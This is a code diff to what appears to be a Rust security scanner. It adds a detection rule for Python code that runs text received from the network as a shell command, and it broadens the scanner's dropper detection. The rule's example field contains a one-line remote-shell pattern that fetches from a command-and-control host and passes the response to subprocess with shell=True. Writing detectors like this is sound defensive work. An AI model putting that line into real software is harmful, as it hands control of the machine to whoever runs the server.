@@ -5,7 +5,7 @@
 //! thing and starts another.
 
 use crate::pyblocks::LineInfo;
-use crate::pyflow::{self, DownloadRun};
+use crate::pyflow::{self, DownloadRun, Ran};
 use crate::source::Role;
 use palisade_core::{Category, Finding, RuleInfo, Severity};
 use std::collections::{BTreeMap, BTreeSet};
@@ -20,17 +20,30 @@ pub static RUNS_DOWNLOAD: RuleInfo = RuleInfo {
     attack: Some("T1105"),
 };
 
-/// Follows every scope that fetches and starts programs (or sets them to start), tags the
-/// functions that run what they downloaded, and returns the first such place.
+pub static RUNS_RECEIVED_COMMAND: RuleInfo = RuleInfo {
+    id: "execution/runs-received-command",
+    category: Category::Execution,
+    severity: Severity::Critical,
+    summary: "Python code runs, as a command line, text it received from the network.",
+    why: "A response run as a shell command is a remote shell: whoever controls the server decides what runs on the machine, whenever they like. Honest tools put fetched values (a version number) into commands they write themselves; they do not run the response.",
+    example: "resp = requests.get(C2).text; subprocess.run(resp, shell=True)",
+    attack: Some("T1059"),
+};
+
+/// Follows every scope that fetches, in a file that starts programs (or sets them to
+/// start), tags the functions that run what they downloaded, and returns the first
+/// place that runs a download.
 pub(super) fn confirm(
     data: &[u8],
     lines: &[LineInfo],
     functions: &mut BTreeMap<u32, BTreeSet<String>>,
     module_body: &BTreeSet<String>,
 ) -> Option<DownloadRun> {
-    let dropper_shape = |tags: &BTreeSet<String>| {
-        tags.contains("network") && (tags.contains("process") || tags.contains("persistence"))
-    };
+    // A scope that fetches may run what it got through another function of the file
+    // (`runcommand(resp)`), so any process start in the file makes it worth following.
+    let starts = |tags: &BTreeSet<String>| tags.contains("process") || tags.contains("persistence");
+    let file_starts = starts(module_body) || functions.values().any(starts);
+    let dropper_shape = |tags: &BTreeSet<String>| tags.contains("network") && file_starts;
     let scopes: Vec<Option<u32>> = functions
         .iter()
         .filter(|(_, tags)| dropper_shape(tags))
@@ -46,7 +59,9 @@ pub(super) fn confirm(
         let Some(found) = pyflow::runs_what_it_downloaded(data, lines, scope, &facts) else {
             continue;
         };
-        if let Some(tags) = scope.and_then(|f| functions.get_mut(&f)) {
+        if let (Ran::File { .. }, Some(tags)) =
+            (&found.ran, scope.and_then(|f| functions.get_mut(&f)))
+        {
             tags.insert("runs-download".to_string());
         }
         first.get_or_insert(found);
@@ -54,14 +69,20 @@ pub(super) fn confirm(
     first
 }
 
-/// The finding for a confirmed dropper, naming the three lines that make it one.
+/// The finding for a confirmed dropper or remote shell, naming the lines that make it one.
 pub(super) fn finding(found: &DownloadRun, role: Role) -> Finding {
-    RUNS_DOWNLOAD.finding(format!(
-        "downloaded at line {}, written to `{}` at line {}, started at line {} [{}]",
-        found.fetched_line,
-        found.path,
-        found.written_line,
-        found.run_line,
-        role.name()
-    ))
+    match &found.ran {
+        Ran::File { path, written_line } => RUNS_DOWNLOAD.finding(format!(
+            "downloaded at line {}, written to `{path}` at line {written_line}, started at line {} [{}]",
+            found.fetched_line,
+            found.run_line,
+            role.name()
+        )),
+        Ran::Command => RUNS_RECEIVED_COMMAND.finding(format!(
+            "received from the network at line {}, run as a command at line {} [{}]",
+            found.fetched_line,
+            found.run_line,
+            role.name()
+        )),
+    }
 }
